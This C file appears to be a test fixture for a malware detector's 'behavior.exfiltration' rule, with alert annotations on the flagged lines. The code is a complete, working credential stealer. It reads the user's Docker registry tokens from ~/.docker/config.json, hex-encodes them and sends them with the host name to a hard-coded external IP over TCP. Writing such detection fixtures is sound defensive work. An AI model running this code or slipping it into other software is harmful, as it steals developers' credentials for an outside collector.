/*
 * behavior.exfiltration: reads ~/.docker/config.json (registry auth
 * tokens) with open/read, hex-encodes it through a digit table and writes
 * the hex text to a TCP socket with write(), prefixed by the host name so
 * the collector can tell victims apart.
 */
#include <fcntl.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static char hexbuf[2 * 16384 + 1];

static size_t to_hex(const unsigned char *in, size_t n)
{
    static const char digits[] = "0123456789abcdef";
    for (size_t i = 0; i < n; i++) {
        hexbuf[2 * i] = digits[in[i] >> 4];
        hexbuf[2 * i + 1] = digits[in[i] & 0xf];
    }
    hexbuf[2 * n] = '\0';
    return 2 * n;
}

static int open_channel(void)
{
    struct addrinfo hints = {0}, *ai;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo("193.42.33.8", "8443", &hints, &ai) != 0)
        return -1;
    int s = socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
    if (s >= 0 && connect(s, ai->ai_addr, ai->ai_addrlen) != 0) {
        close(s);
        s = -1;
    }
    freeaddrinfo(ai);
    return s;
}

int main(void)
{
    static unsigned char raw[16384];
    char path[512], host[256] = "?";
    const char *home = getenv("HOME");

    if (!home)
        return 0;
    snprintf(path, sizeof(path), "%s/.docker/config.json", home);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, raw, sizeof(raw));
    close(fd);
    if (n <= 0)
        return 0;
    size_t len = to_hex(raw, (size_t)n);

    int s = open_channel();
    if (s < 0)
        return 0;
    gethostname(host, sizeof(host));
    write(s, host, strlen(host)); // $ Alert[behavior.exfiltration]
    write(s, "\n", 1); // $ Alert[behavior.exfiltration]
    write(s, hexbuf, len); // $ Alert[behavior.exfiltration]
    close(s);
    return 0;
}
